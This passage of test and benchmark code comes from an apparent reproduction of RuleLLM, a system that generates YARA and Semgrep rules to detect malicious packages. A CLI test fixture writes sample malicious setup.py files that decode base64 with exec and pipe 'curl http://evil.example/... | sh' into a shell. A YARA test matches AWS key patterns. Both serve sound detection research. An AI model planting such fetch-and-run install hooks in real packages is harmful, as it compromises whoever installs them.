baseline and fails (exit 1) when the indexed lane regressed by more than the
allowed fraction.  Guarded lanes:

* the 200-rule ``indexed`` lane;
* every ``registry_scale`` point present in **both** reports (matched by
  rule count — new points are allowed to appear without a baseline);
* the ``obs_overhead`` section when the fresh report carries one: the
  disabled-tracer observability seams may cost at most
  ``--max-obs-overhead`` of a 1-shard batch (no baseline needed — the
  ceiling is absolute, so older baselines without the section still work).

The guarded metric is the indexed/naive **speedup** of each lane, not raw
packages/sec: the baseline is committed from one machine and the fresh
report is generated on another (CI runners also scale the corpus down), so
absolute throughput is not comparable across them.  Speedup normalizes the
indexed lane by the naive lane *of the same run*, which cancels hardware
and corpus scale; a packed-lane slowdown shows up in it directly.  Raw
packages/sec are printed alongside for inspection.

Usage::

    python benchmarks/check_regression.py BASELINE.json FRESH.json \
        [--max-regression 0.25]
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path


def _registry_points(report: dict) -> dict[int, dict]:
    """``{rules: point}`` for every registry-scale point.

    Accepts both the current list-of-points shape and the historical
    single-object shape, so an old baseline still guards the new report.
    """
    raw = report.get("registry_scale") or []
    if isinstance(raw, dict):
        raw = [raw]
    return {int(point["rules"]): point for point in raw}


def check(
    baseline: dict,
    fresh: dict,
    max_regression: float,
    max_obs_overhead: float = 0.05,
) -> list[str]:
    """Failure messages (empty = the fresh report passes the guard)."""
    failures: list[str] = []

    def guard(name: str, base: float, new: float, base_pps: float, new_pps: float) -> None:
        floor = base * (1.0 - max_regression)
        verdict = "ok" if new >= floor else "REGRESSED"
        print(
            f"{name}: speedup baseline {base:.2f}x, fresh {new:.2f}x "
            f"(floor {floor:.2f}x) {verdict} "
            f"[raw {base_pps:.0f} -> {new_pps:.0f} pkg/s]"
        )
        if new < floor:
            failures.append(
                f"{name} regressed: speedup {new:.2f}x < floor {floor:.2f}x "
                f"({max_regression:.0%} below baseline {base:.2f}x)"
            )

    guard(
        "indexed (200 rules)",
        float(baseline["speedup"]),
        float(fresh["speedup"]),
        float(baseline["indexed"]["packages_per_second"]),
        float(fresh["indexed"]["packages_per_second"]),
    )
    base_points = _registry_points(baseline)
    fresh_points = _registry_points(fresh)
    for rules, base_point in sorted(base_points.items()):
        if rules not in fresh_points:
            failures.append(f"registry_scale point at {rules} rules disappeared")
            continue
        fresh_point = fresh_points[rules]
        if not base_point.get("speedup") or not fresh_point.get("speedup"):
            continue
        guard(
            f"registry_scale ({rules} rules)",
            float(base_point["speedup"]),
            float(fresh_point["speedup"]),
            float(base_point["indexed"]["packages_per_second"]),
            float(fresh_point["indexed"]["packages_per_second"]),
        )
    for rules in sorted(set(fresh_points) - set(base_points)):
        pps = fresh_points[rules]["indexed"]["packages_per_second"]
        print(f"registry_scale ({rules} rules): new point, {pps:.0f} pkg/s (no baseline)")
    obs = fresh.get("obs_overhead")
    if obs and obs.get("disabled_overhead_fraction") is not None:
        fraction = float(obs["disabled_overhead_fraction"])
        verdict = "ok" if fraction <= max_obs_overhead else "REGRESSED"
        print(
            f"obs_overhead: disabled-tracer seams {fraction:.4%} of a 1-shard "
            f"batch (ceiling {max_obs_overhead:.0%}) {verdict} "
            f"[noop span {obs.get('noop_span_ns', '?')} ns, "
            f"counter inc {obs.get('counter_inc_ns', '?')} ns]"
        )
        if fraction > max_obs_overhead:
            failures.append(
                f"obs_overhead: disabled-tracer seams cost {fraction:.2%} "
                f"of a 1-shard batch > ceiling {max_obs_overhead:.0%}"
            )
    return failures


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("baseline", type=Path)
    parser.add_argument("fresh", type=Path)
    parser.add_argument(
        "--max-regression",
        type=float,
        default=0.25,
        help="allowed fractional speedup drop before failing (default 0.25)",
    )
    parser.add_argument(
        "--max-obs-overhead",
        type=float,
        default=0.05,
        help="ceiling on the disabled-tracer obs seam cost as a fraction of "
             "a 1-shard batch, when the fresh report measures it (default 0.05)",
    )
    args = parser.parse_args(argv)
    baseline = json.loads(args.baseline.read_text(encoding="utf-8"))
    fresh = json.loads(args.fresh.read_text(encoding="utf-8"))
    failures = check(baseline, fresh, args.max_regression, args.max_obs_overhead)
    for failure in failures:
        print(f"FAIL: {failure}", file=sys.stderr)
    if not failures:
        print("benchmark regression guard: all indexed lanes within tolerance")
    return 1 if failures else 0


if __name__ == "__main__":
    raise SystemExit(main())
