"""Table VIII: RuleLLM vs existing-rule scanners and the score-based baseline."""

from conftest import run_once, save_report


def test_bench_table8_baselines(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.table8_baselines)
    rendered = result.render()
    save_report(report_dir, "table8_baselines", rendered)
    print("\n" + rendered)

    rulellm = result.row("RuleLLM").metrics
    yara_scanner = result.row("Yara scanner").metrics
    semgrep_scanner = result.row("Semgrep scanner").metrics

    # headline result: RuleLLM outperforms the community-rule scanners on
    # recall and F1, with precision and recall in the neighbourhood the paper
    # reports (85.2% / 91.8%).
    assert rulellm.f1 > yara_scanner.f1
    assert rulellm.f1 > semgrep_scanner.f1
    assert rulellm.recall > yara_scanner.recall
    assert rulellm.recall > semgrep_scanner.recall
    assert rulellm.precision >= 0.70
    assert rulellm.recall >= 0.80
