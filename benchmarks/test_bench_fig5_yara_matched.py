"""Figure 5: YARA detection performance vs the matched-rule threshold."""

from conftest import run_once, save_report


def test_bench_fig5_yara_matched(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.figure5_yara_matched_curve)
    rendered = result.render()
    save_report(report_dir, "fig5_yara_matched", rendered)
    print("\n" + rendered)

    points = result.curve.points
    assert points[0].matched_rules == 1
    # the paper observes the best YARA performance at one matched rule and a
    # decline as the threshold rises (YARA rules are specific and rarely co-fire)
    assert points[0].f1 == max(point.f1 for point in points)
    assert points[-1].recall <= points[0].recall
