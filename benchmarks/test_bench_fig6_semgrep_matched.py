"""Figure 6: Semgrep detection performance vs the matched-rule threshold."""

from conftest import run_once, save_report


def test_bench_fig6_semgrep_matched(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.figure6_semgrep_matched_curve)
    rendered = result.render()
    save_report(report_dir, "fig6_semgrep_matched", rendered)
    print("\n" + rendered)

    points = result.curve.points
    assert points
    # Semgrep rules are broader/structural: the curve is flatter than YARA's,
    # i.e. performance changes only gradually with the matched-rule count.
    first_f1 = points[0].f1
    mid_index = min(len(points) - 1, 3)
    assert points[mid_index].f1 >= first_f1 * 0.55
    assert all(0.0 <= point.f1 <= 1.0 for point in points)
