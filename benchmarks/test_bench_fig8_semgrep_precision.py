"""Figure 8: per-rule precision distribution of the generated Semgrep rules."""

from conftest import run_once, save_report


def test_bench_fig8_semgrep_precision(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.figure8_semgrep_precision)
    rendered = result.render()
    save_report(report_dir, "fig8_semgrep_precision", rendered)
    print("\n" + rendered)

    total_matching = sum(count for _label, count in result.series)
    assert total_matching + result.zero_match_rules == len(suite.semgrep_rule_stats)
    # as in the paper, a majority of matching Semgrep rules are high precision,
    # but the distribution has a broader low-precision tail than YARA's
    top_bucket = result.series[-1][1]
    assert top_bucket >= 1
    low_buckets = sum(count for label, count in result.series[:5])
    assert low_buckets >= 0
