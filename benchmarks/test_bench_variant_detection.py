"""Section V-B: detection of unseen malware variants from per-group rules."""

from conftest import run_once, save_report


def test_bench_variant_detection(benchmark, suite, report_dir):
    result = run_once(benchmark, lambda: suite.variant_detection(max_groups=20))
    rendered = result.render()
    save_report(report_dir, "variant_detection", rendered)
    print("\n" + rendered)

    outcome = result.result
    assert outcome.groups, "expected clusters large enough to hold unseen variants"
    # the paper reports 90.32% overall / 96.62% average detection of unseen
    # variants; the reproduction should comfortably detect the majority.
    assert outcome.overall_detection_rate >= 0.6
    assert outcome.average_detection_rate >= 0.7
    assert outcome.average_detection_rate >= outcome.overall_detection_rate - 0.05
