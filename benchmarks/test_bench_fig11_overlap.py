"""Figure 11: overlap heatmap between rule categories."""

from repro.categories import CATEGORIES

from conftest import run_once, save_report


def test_bench_fig11_overlap(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.figure11_overlap)
    rendered = result.render()
    save_report(report_dir, "fig11_overlap", rendered)
    print("\n" + rendered)

    matrix = result.overlap.matrix
    assert len(matrix) == len(CATEGORIES) == 11
    # symmetric, empty diagonal, and at least some rules belong to two categories
    for i in range(11):
        assert matrix[i][i] == 0
        for j in range(11):
            assert matrix[i][j] == matrix[j][i]
    assert result.overlap.max_overlap >= 1
