"""Setuptools shim.

Kept alongside ``pyproject.toml`` so the package installs in minimal offline
environments where the ``wheel`` package is unavailable and PEP 517 editable
installs fail (``python setup.py develop`` still works there).
"""

from setuptools import setup

setup()
