"""Setuptools configuration.

Kept as a plain ``setup.py`` so the package installs in minimal offline
environments where the ``wheel`` package is unavailable and PEP 517 editable
installs fail (``python setup.py develop`` still works there).
"""

from setuptools import find_packages, setup

setup(
    name="repro-rulellm",
    version="0.1.0",
    description="Reproduction of RuleLLM: LLM-generated YARA/Semgrep rules "
    "for malicious-package detection, with a registry-scale scanning service",
    package_dir={"": "src"},
    packages=find_packages("src"),
    python_requires=">=3.10",
    entry_points={"console_scripts": ["rulellm = repro.cli:main"]},
)
