"""End-to-end CLI coverage: generate, scan, and the pipeline loop via main(argv).

Everything runs on a tiny on-disk corpus (two similar malicious packages —
similar so the clustering stage retains their group — plus one benign) so
the full generate -> publish -> scan loop stays fast while exercising the
real argument parsing, package discovery and exit codes.
"""

import json

import pytest

from repro.cli import main as cli_main


def _malicious_setup(variant: str) -> str:
    return (
        "import base64, os\n"
        'exec(base64.b64decode("aW1wb3J0IG9z"))\n'
        f'os.system("curl http://evil.example/{variant} | sh")\n'
    )


BENIGN_LIB = "def add(a, b):\n    return a + b\n"


def _write_package(root, name: str, file_name: str, content: str):
    package = root / name
    package.mkdir(parents=True)
    (package / file_name).write_text(content, encoding="utf-8")
    return package


@pytest.fixture()
def malware_dir(tmp_path):
    """Two similar malicious packages: one retained cluster, real rules."""
    root = tmp_path / "malware"
    _write_package(root, "evil-pkg", "setup.py", _malicious_setup("payload"))
    _write_package(root, "evil-pkg-fork", "setup.py", _malicious_setup("stage2"))
    return root


@pytest.fixture()
def corpus_dir(tmp_path, malware_dir):
    """Scan targets: one of the malicious packages plus a benign one."""
    root = tmp_path / "pkgs"
    _write_package(root, "evil-pkg", "setup.py", _malicious_setup("payload"))
    _write_package(root, "nice-pkg", "lib.py", BENIGN_LIB)
    return root


class TestGenerateCli:
    def test_generate_from_package_directory(self, malware_dir, tmp_path, capsys):
        rules_dir = tmp_path / "rules"
        exit_code = cli_main(
            ["generate", "--packages", str(malware_dir), "--output", str(rules_dir)]
        )
        assert exit_code == 0
        output = capsys.readouterr().out
        assert "generating rules from 2 malicious packages" in output
        assert "wrote" in output
        written = list(rules_dir.rglob("*.yar")) + list(rules_dir.rglob("*.yaml"))
        assert written, "generate must write rule files"

    def test_generate_empty_directory_fails(self, tmp_path):
        empty = tmp_path / "empty"
        empty.mkdir()
        assert cli_main(["generate", "--packages", str(empty)]) == 1


class TestScanCli:
    @pytest.fixture()
    def rules_dir(self, malware_dir, tmp_path):
        rules = tmp_path / "rules"
        assert (
            cli_main(
                ["generate", "--packages", str(malware_dir), "--output", str(rules)]
            )
            == 0
        )
        return rules

    def test_scan_flags_malicious_package(self, rules_dir, corpus_dir, capsys):
        exit_code = cli_main(
            ["scan", "--rules", str(rules_dir), str(corpus_dir / "evil-pkg")]
        )
        assert exit_code == 2
        assert "MALICIOUS" in capsys.readouterr().out

    def test_scan_batch_over_generated_rules(
        self, rules_dir, corpus_dir, tmp_path, capsys
    ):
        report_path = tmp_path / "report.json"
        exit_code = cli_main(
            [
                "scan-batch",
                "--rules", str(rules_dir),
                "--mode", "inprocess",
                "--json", str(report_path),
                str(corpus_dir),
            ]
        )
        output = capsys.readouterr().out
        assert exit_code == 2  # the evil package must be flagged
        assert "published ruleset v1" in output
        assert str(corpus_dir / "evil-pkg") + ": MALICIOUS" in output
        assert str(corpus_dir / "nice-pkg") + ": clean" in output
        assert "slowest rules:" in output  # per-rule cost telemetry surfaced
        report = json.loads(report_path.read_text(encoding="utf-8"))
        assert report["packages"] == 2
        assert report["malicious"] == 1


class TestPipelineCli:
    def test_pipeline_end_to_end_on_package_directory(
        self, malware_dir, tmp_path, capsys
    ):
        report_path = tmp_path / "report.json"
        rules_dir = tmp_path / "rules"
        exit_code = cli_main(
            [
                "pipeline",
                "--packages", str(malware_dir),
                "--batches", "2",
                "--mode", "inprocess",
                "--output", str(rules_dir),
                "--json", str(report_path),
            ]
        )
        output = capsys.readouterr().out
        assert exit_code == 0
        # the corpus was fed incrementally ...
        assert "fed batch 1/2" in output
        assert "fed batch 2/2" in output
        # ... auto-published as v1 ...
        assert "published v1" in output
        # ... and the scan used it with no manual registry step
        assert "ruleset v1" in output
        assert "evil-pkg: MALICIOUS" in output
        assert "evil-pkg-fork: MALICIOUS" in output
        assert rules_dir.is_dir()
        report = json.loads(report_path.read_text(encoding="utf-8"))
        assert report["ruleset_version"] == 1
        assert report["packages"] == 2

    def test_pipeline_empty_directory_fails(self, tmp_path):
        empty = tmp_path / "empty"
        empty.mkdir()
        assert cli_main(["pipeline", "--packages", str(empty)]) == 1

    def test_pipeline_on_synthetic_corpus(self, capsys):
        exit_code = cli_main(
            ["pipeline", "--scale", "0.01", "--batches", "3", "--mode", "inprocess"]
        )
        output = capsys.readouterr().out
        assert exit_code == 0
        assert "published v1" in output
        assert "detection: precision" in output


class TestOrchestrateCli:
    def test_orchestrate_fleet_with_live_rescan(self, tmp_path, capsys):
        """2-shard merge publish + live re-scan (the CI smoke flow)."""
        report_path = tmp_path / "orchestrator.json"
        registry_dir = tmp_path / "registry"
        exit_code = cli_main(
            [
                "orchestrate",
                "--scale", "0.01",
                "--shards", "2",
                "--max-workers", "1",
                "--json", str(report_path),
                "--registry-dir", str(registry_dir),
            ]
        )
        output = capsys.readouterr().out
        assert exit_code == 0
        # baseline published and pre-scanned to prime the re-scan window ...
        assert "baseline:" in output
        assert "re-scan window primed" in output
        # ... the fleet published a merged v2 with per-shard provenance ...
        assert "fleet[cluster]" in output
        assert "shard clusters-0" in output
        # ... which triggered the subscribed service's live re-scan
        assert "re-scan v1 -> v2" in output
        report = json.loads(report_path.read_text(encoding="utf-8"))
        assert report["fleet"]["version"] == 2
        assert report["fleet"]["publish"] == "merged"
        assert len(report["fleet"]["shards"]) == 2
        assert report["rescan"]["to_version"] == 2
        assert report["rescan"]["scanned"] > 0
        assert (registry_dir / "v1").is_dir()
        assert (registry_dir / "ACTIVE").read_text(encoding="utf-8").strip() == "1"

    def test_orchestrate_empty_directory_fails(self, tmp_path):
        empty = tmp_path / "empty"
        empty.mkdir()
        assert cli_main(["orchestrate", "--packages", str(empty)]) == 1


class TestRegistryCli:
    @pytest.fixture()
    def registry_dir(self, malware_dir, tmp_path):
        root = tmp_path / "registry"
        for _ in range(2):  # two orchestrated publishes -> v1 and v2
            assert cli_main(
                [
                    "orchestrate",
                    "--packages", str(malware_dir),
                    "--shards", "2",
                    "--max-workers", "1",
                    "--baseline", "0",
                    "--registry-dir", str(root),
                ]
            ) == 0
        return root

    def test_list_activate_retire_roundtrip(self, registry_dir, capsys):
        assert cli_main(["registry", "list", str(registry_dir)]) == 0
        listing = capsys.readouterr().out
        assert "v1:" in listing and "* v2:" in listing  # v2 is active

        assert cli_main(["registry", "activate", str(registry_dir), "1"]) == 0
        assert cli_main(["registry", "retire", str(registry_dir), "2"]) == 0
        assert not (registry_dir / "v2").exists()

        assert cli_main(["registry", "list", str(registry_dir)]) == 0
        assert "* v1:" in capsys.readouterr().out

    def test_retire_active_or_unknown_version_fails(self, registry_dir, capsys):
        assert cli_main(["registry", "retire", str(registry_dir), "2"]) == 1
        assert "cannot retire the active version" in capsys.readouterr().err
        assert cli_main(["registry", "retire", str(registry_dir), "9"]) == 1
        assert "unknown version v9" in capsys.readouterr().err

    def test_list_empty_directory(self, tmp_path, capsys):
        assert cli_main(["registry", "list", str(tmp_path / "nothing")]) == 0
        assert "no versions" in capsys.readouterr().out

    def test_retire_with_reason_stamps_a_tombstone(self, registry_dir, capsys):
        assert cli_main(["registry", "activate", str(registry_dir), "1"]) == 0
        capsys.readouterr()
        assert cli_main(
            ["registry", "retire", str(registry_dir), "2",
             "--reason", "decayed in the arena", "--by", "ops"]
        ) == 0
        assert "retired v2 (decayed in the arena)" in capsys.readouterr().out
        tombstones = json.loads(
            (registry_dir / "RETIRED.json").read_text(encoding="utf-8")
        )
        assert tombstones[0]["version"] == 2
        assert tombstones[0]["reason"] == "decayed in the arena"
        assert tombstones[0]["retired_by"] == "ops"
        assert tombstones[0]["rule_count"] > 0

        assert cli_main(["registry", "list", str(registry_dir)]) == 0
        listing = capsys.readouterr().out
        assert "x v2 retired by ops: decayed in the arena" in listing


class TestArenaCli:
    @pytest.fixture()
    def state_dir(self, tmp_path):
        """A saved arena state dir, written through the real components."""
        from repro.arena import Leaderboard
        from repro.arena.scoring import RuleScore

        root = tmp_path / "arena"
        root.mkdir()
        board = Leaderboard(path=root / "leaderboard.json")
        verdicts = [
            RuleScore(rule="good", score=0.9, precision=0.9, coverage=3,
                      malicious_matches=3, benign_matches=0, policy="strict"),
            RuleScore(rule="bad", score=0.1, precision=0.1, coverage=1,
                      malicious_matches=1, benign_matches=9, policy="strict"),
        ]
        board.record_round(verdicts, 0)
        board.set_status("", "bad", "quarantined")
        board.save()
        (root / "rounds.json").write_text(json.dumps({
            "rounds": [
                {"index": 0, "version": 1, "packages": 16, "malicious": 8,
                 "retired_rules": [], "refeed_version": None},
                {"index": 1, "version": 1, "packages": 16, "malicious": 7,
                 "retired_rules": ["bad"], "refeed_version": 2},
            ]
        }), encoding="utf-8")
        return root

    def test_leaderboard_listing(self, state_dir, capsys):
        assert cli_main(["arena", "leaderboard", str(state_dir)]) == 0
        output = capsys.readouterr().out
        assert "#1 (=) good: 0.900" in output
        assert "[quarantined]" in output

    def test_history_listing(self, state_dir, capsys):
        assert cli_main(["arena", "history", str(state_dir)]) == 0
        output = capsys.readouterr().out
        assert "round 0 v1: 16 pkgs (8 malicious)" in output
        assert "retired 1 rule(s); refeed -> v2" in output

    def test_missing_state_dir_fails_with_hint(self, tmp_path):
        with pytest.raises(SystemExit, match="arena run"):
            cli_main(["arena", "leaderboard", str(tmp_path / "nowhere")])


class TestObsCommands:
    @pytest.fixture()
    def trace_file(self, tmp_path):
        records = [
            {"trace_id": "t1", "span_id": "a", "parent_id": None,
             "name": "scan.batch", "start": 1.0, "seconds": 0.05,
             "status": "ok", "attrs": {"packages": 4}},
            {"trace_id": "t1", "span_id": "b", "parent_id": "a",
             "name": "scan.chunk", "start": 1.1, "seconds": 0.02,
             "status": "ok", "attrs": {}},
        ]
        path = tmp_path / "spans.jsonl"
        path.write_text(
            "\n".join(json.dumps(r) for r in records) + "\n{torn tail",
            encoding="utf-8",
        )
        return path

    def test_obs_spans_renders_the_tree(self, trace_file, capsys):
        assert cli_main(["obs", "spans", str(trace_file)]) == 0
        output = capsys.readouterr().out
        assert "trace t1" in output
        assert "scan.batch  50.0ms" in output
        assert "└─ scan.chunk  20.0ms" in output

    def test_obs_spans_filters_by_trace_id(self, trace_file, capsys):
        assert cli_main(
            ["obs", "spans", str(trace_file), "--trace-id", "t1"]
        ) == 0
        assert "scan.batch" in capsys.readouterr().out

    def test_obs_top_ranks_by_duration(self, trace_file, capsys):
        assert cli_main(["obs", "top", str(trace_file), "--limit", "1"]) == 0
        output = capsys.readouterr().out
        assert "scan.batch" in output
        assert "scan.chunk" not in output

    def test_obs_spans_missing_file_fails(self, tmp_path, capsys):
        assert cli_main(["obs", "spans", str(tmp_path / "nope.jsonl")]) == 1
        assert "cannot read" in capsys.readouterr().err

    def test_obs_spans_empty_file_fails(self, tmp_path, capsys):
        empty = tmp_path / "empty.jsonl"
        empty.write_text("", encoding="utf-8")
        assert cli_main(["obs", "spans", str(empty)]) == 1
        assert "no span records" in capsys.readouterr().err

    def test_orchestrate_trace_flag_writes_spans(self, malware_dir, tmp_path, capsys):
        sink = tmp_path / "fleet.jsonl"
        assert cli_main([
            "orchestrate", "--packages", str(malware_dir),
            "--shards", "2", "--baseline", "0", "--trace", str(sink),
        ]) == 0
        assert "tracing enabled" in capsys.readouterr().out
        names = {
            json.loads(line)["name"]
            for line in sink.read_text(encoding="utf-8").splitlines()
        }
        assert "fleet.run" in names
        assert "session.generate" in names
        # the CLI process leaves the global tracer configured; later tests
        # must not inherit it
        from repro.obs import disable_tracing, get_tracer

        disable_tracing()
        assert not get_tracer().enabled
