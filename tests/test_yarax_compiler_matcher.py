"""Tests for YARA compilation semantics and matching."""

import pytest

from repro.yarax import YaraCompilationError, compile_source
from repro.yarax.compiler import scan_many, try_compile


def compile_one(body: str):
    return compile_source(body)


def test_undefined_string_in_condition_is_an_error():
    with pytest.raises(YaraCompilationError, match="undefined string"):
        compile_one('rule x { strings: $a = "v" condition: $b }')


def test_unreferenced_strings_without_of_them_is_an_error():
    with pytest.raises(YaraCompilationError, match="unreferenced string"):
        compile_one('rule x { strings: $a = "v" $b = "w" condition: true }')


def test_missing_condition_is_an_error():
    with pytest.raises(YaraCompilationError, match="missing condition"):
        compile_one('rule x { strings: $a = "v" }')


def test_duplicate_rule_name_is_an_error():
    source = ('rule x { strings: $a = "v" condition: $a }\n'
              'rule x { strings: $a = "w" condition: $a }')
    with pytest.raises(YaraCompilationError, match="duplicated rule"):
        compile_one(source)


def test_duplicate_string_identifier_is_an_error():
    with pytest.raises(YaraCompilationError, match="duplicated string"):
        compile_one('rule x { strings: $a = "v" $a = "w" condition: any of them }')


def test_invalid_regex_is_an_error():
    with pytest.raises(YaraCompilationError, match="regular expression"):
        compile_one('rule x { strings: $a = /([A-Z/ condition: $a }')


def test_invalid_hex_string_is_an_error():
    with pytest.raises(YaraCompilationError):
        compile_one('rule x { strings: $a = { ZZ XX } condition: $a }')


def test_text_string_matching_and_offsets():
    rules = compile_one('rule x { strings: $a = "needle" condition: $a }')
    match = rules.rules[0].match("hay needle hay needle")
    assert match is not None
    assert len(match.string_matches) == 2
    assert match.string_matches[0].offset == 4


def test_nocase_modifier():
    rules = compile_one('rule x { strings: $a = "Token" nocase condition: $a }')
    assert rules.match("TOKEN in caps")
    assert not compile_one('rule x { strings: $a = "Token" condition: $a }').match("TOKEN")


def test_fullword_modifier():
    rules = compile_one('rule x { strings: $a = "cat" fullword condition: $a }')
    assert rules.match("a cat sat")
    assert not rules.match("concatenate")


def test_regex_string_matching():
    rules = compile_one(r'rule x { strings: $a = /AKIA[0-9A-Z]{8}/ condition: $a }')
    assert rules.match('key = "AKIA12345678"')
    assert not rules.match("key = nothing")


def test_hex_string_matching_with_wildcards():
    rules = compile_one('rule x { strings: $a = { 41 ?? 43 } condition: $a }')
    assert rules.match("xxAbCxx".replace("b", "B"))  # bytes 0x41 ?? 0x43 => 'A', any, 'C'
    assert rules.match("AZC")
    assert not rules.match("AC")


def test_of_them_quantifiers():
    source = 'rule x { strings: $a = "one" $b = "two" $c = "three" condition: 2 of them }'
    rules = compile_one(source)
    assert rules.match("one and two")
    assert not rules.match("only one")


def test_of_prefix_wildcard_set():
    source = ('rule x { strings: $net0 = "socket" $net1 = "connect" $other = "zzz" '
              'condition: all of ($net*) }')
    rules = compile_one(source)
    assert rules.match("socket then connect")
    assert not rules.match("socket only")


def test_count_comparison():
    rules = compile_one('rule x { strings: $a = "hit" condition: #a >= 3 }')
    assert rules.match("hit hit hit")
    assert not rules.match("hit hit")


def test_filesize_condition():
    rules = compile_one('rule x { strings: $a = "x" condition: $a and filesize < 10 }')
    assert rules.match("x")
    assert not rules.match("x" * 50)


def test_not_and_boolean_literals():
    rules = compile_one('rule x { strings: $a = "bad" condition: not $a and true }')
    assert rules.match("all good here")
    assert not rules.match("bad stuff")


def test_ruleset_match_returns_all_matching_rules():
    source = ('rule a { strings: $x = "alpha" condition: $x }\n'
              'rule b { strings: $y = "beta" condition: $y }')
    rules = compile_one(source)
    names = {m.rule_name for m in rules.match("alpha beta")}
    assert names == {"a", "b"}


def test_try_compile_success_and_failure():
    ok, err = try_compile('rule x { strings: $a = "v" condition: $a }')
    assert ok is not None and err is None
    bad, err = try_compile('rule x { strings: $a = "v" condition: $missing }')
    assert bad is None and "undefined string" in err


def test_scan_many_preserves_order():
    rules = compile_one('rule x { strings: $a = "mark" condition: $a }')
    results = scan_many(rules, ["no", "mark here", "no"])
    assert [len(r) for r in results] == [0, 1, 0]


def test_extend_rejects_duplicate_names():
    a = compile_one('rule x { strings: $a = "v" condition: $a }')
    b = compile_one('rule x { strings: $a = "w" condition: $a }')
    with pytest.raises(YaraCompilationError):
        a.extend(b)
