"""Tests for the hashing embedder and the K-Means grouping step."""

import numpy as np
import pytest

from repro.extraction.clustering import (
    KMeans,
    cluster_packages,
    cosine_similarity,
    intra_cluster_similarity,
)
from repro.extraction.embedding import CodeEmbedder, EmbeddingConfig, tokenize_code


def test_tokenize_code_handles_valid_python():
    tokens = tokenize_code("def f(x):\n    return x + 1\n")
    assert "def" in tokens and "return" in tokens


def test_tokenize_code_falls_back_on_broken_code():
    tokens = tokenize_code("def broken(:\n  ???")
    assert tokens  # regex fallback still produces tokens


def test_embedding_is_unit_norm_and_deterministic():
    embedder = CodeEmbedder()
    a = embedder.embed("import os\nos.system('id')")
    b = embedder.embed("import os\nos.system('id')")
    assert np.allclose(a, b)
    assert abs(np.linalg.norm(a) - 1.0) < 1e-9


def test_embedding_similarity_orders_related_code_first():
    embedder = CodeEmbedder()
    base = embedder.embed_document("import socket\ns = socket.socket()\ns.connect(('h', 80))")
    variant = embedder.embed_document("import socket\nsock = socket.socket()\nsock.connect(('x', 443))")
    unrelated = embedder.embed_document("def moving_average(vals, w):\n    return sum(vals[-w:]) / w")
    assert cosine_similarity(base, variant) > cosine_similarity(base, unrelated)


def test_embedding_config_validation():
    with pytest.raises(ValueError):
        EmbeddingConfig(dimensions=4)
    with pytest.raises(ValueError):
        EmbeddingConfig(segment_length=0)


def test_embed_packages_shape(malware_packages):
    embedder = CodeEmbedder()
    matrix = embedder.embed_packages(malware_packages[:5])
    assert matrix.shape == (5, embedder.config.dimensions)


def test_kmeans_separates_obvious_clusters():
    rng = np.random.default_rng(0)
    a = rng.normal(0.0, 0.05, size=(20, 4))
    b = rng.normal(5.0, 0.05, size=(20, 4))
    data = np.vstack([a, b])
    labels = KMeans(n_clusters=2).fit_predict(data)
    assert len(set(labels[:20])) == 1
    assert len(set(labels[20:])) == 1
    assert labels[0] != labels[-1]


def test_kmeans_validates_input():
    with pytest.raises(ValueError):
        KMeans(n_clusters=0)
    with pytest.raises(ValueError):
        KMeans(n_clusters=2).fit(np.zeros((0, 3)))


def test_kmeans_handles_more_clusters_than_points():
    data = np.array([[0.0, 0.0], [1.0, 1.0]])
    labels = KMeans(n_clusters=10).fit_predict(data)
    assert len(labels) == 2


def test_intra_cluster_similarity_bounds():
    identical = np.vstack([np.ones(8), np.ones(8)])
    assert intra_cluster_similarity(identical) == pytest.approx(1.0)
    single = np.ones((1, 8))
    assert intra_cluster_similarity(single) == 1.0


def test_cosine_similarity_zero_vector():
    assert cosine_similarity(np.zeros(4), np.ones(4)) == 0.0


def test_cluster_packages_groups_families(malware_packages):
    result = cluster_packages(malware_packages)
    assert result.package_count + sum(len(g) for g in result.discarded) == len(malware_packages)
    # members of the same retained cluster overwhelmingly share their family
    for cluster in result.clusters:
        families = {pkg.family for pkg in cluster}
        assert len(families) <= 2


def test_cluster_packages_empty_input():
    result = cluster_packages([])
    assert result.clusters == [] and result.discarded == []


def test_cluster_labels_mapping_consistent(malware_packages):
    result = cluster_packages(malware_packages)
    for index, cluster in enumerate(result.clusters):
        for pkg in cluster:
            assert result.labels[pkg.identifier] == index
