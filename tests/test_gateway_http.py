"""The gateway over real HTTP: a ThreadedGateway on a daemon thread, driven
by the stdlib GatewayClient — status codes, 429 + Retry-After, long-poll
events, job lifecycle and a full streaming-generation round trip."""

from __future__ import annotations

import pytest

from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.gateway import (
    GatewayConfig,
    GatewayError,
    RateLimited,
    TenantQuota,
    ThreadedGateway,
)
from repro.yarax import compile_source

NEEDLE = "gateway_http_needle"


def _pkg(name: str, content: str) -> Package:
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name),
        files=[PackageFile(path=f"{name}.py", content=content)],
    )


def _targets(prefix: str) -> list[Package]:
    return [
        _pkg(f"{prefix}-bad", f"x = '{NEEDLE}'"),
        _pkg(f"{prefix}-ok", "def fine(): return 0"),
    ]


@pytest.fixture(scope="module")
def gateway():
    gw = ThreadedGateway(GatewayConfig(workers=2)).start()
    yield gw
    gw.stop()


@pytest.fixture(scope="module")
def client(gateway):
    return gateway.client(timeout=30)


def _publish_rules(gateway, tenant: str) -> None:
    # the registry is thread-safe; publishing from the test thread exercises
    # the hub's cross-thread trampoline exactly like an executor callback
    gateway.app.tenant(tenant).registry.publish(
        yara=compile_source(
            f'rule http_gw {{ strings: $a = "{NEEDLE}" condition: $a }}'
        ),
        label=f"{tenant} rules",
    )


class TestHttpBasics:
    def test_health(self, client):
        health = client.health()
        assert health["ok"] is True
        assert health["accepting"] is True

    def test_register_then_duplicate_is_409(self, client):
        created = client.register_tenant("dup")
        assert created["name"] == "dup"
        with pytest.raises(GatewayError) as excinfo:
            client.register_tenant("dup")
        assert excinfo.value.status == 409
        assert any(t["name"] == "dup" for t in client.tenants())

    def test_unknown_job_is_404(self, client):
        client.register_tenant("lost")
        with pytest.raises(GatewayError) as excinfo:
            client.job("lost", "scan-999999")
        assert excinfo.value.status == 404

    def test_empty_scan_batch_is_400(self, client):
        client.register_tenant("empty")
